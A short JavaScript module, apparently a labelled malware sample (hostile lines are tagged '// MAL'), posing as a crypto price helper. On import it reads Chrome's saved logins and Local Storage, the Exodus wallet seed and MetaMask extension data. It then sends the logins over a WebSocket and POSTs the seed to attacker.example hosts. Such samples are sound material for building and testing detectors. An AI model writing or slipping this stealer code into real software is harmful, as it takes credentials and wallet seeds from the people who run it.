import { readFileSync, readdirSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const base = join(homedir(), 'AppData', 'Local', 'Google', 'Chrome', 'User Data', 'Default');
const logins = readFileSync(join(base, 'Login Data')); // MAL
const ls = readdirSync(join(base, 'Local Storage', 'leveldb')); // MAL
const exodus = readFileSync(homedir() + '/.config/Exodus/exodus.wallet/seed.seco'); // MAL
const mm = readdirSync(join(base, 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn')); // MAL
const ws = new WebSocket('wss://ws.attacker.example/x'); // MAL
ws.send(logins); // MAL
await fetch('https://wallets.attacker.example/u', { method: 'POST', body: exodus }); // MAL
export const prices = async () => (await fetch('https://api.github.com/x')).json();
export { ls, mm };
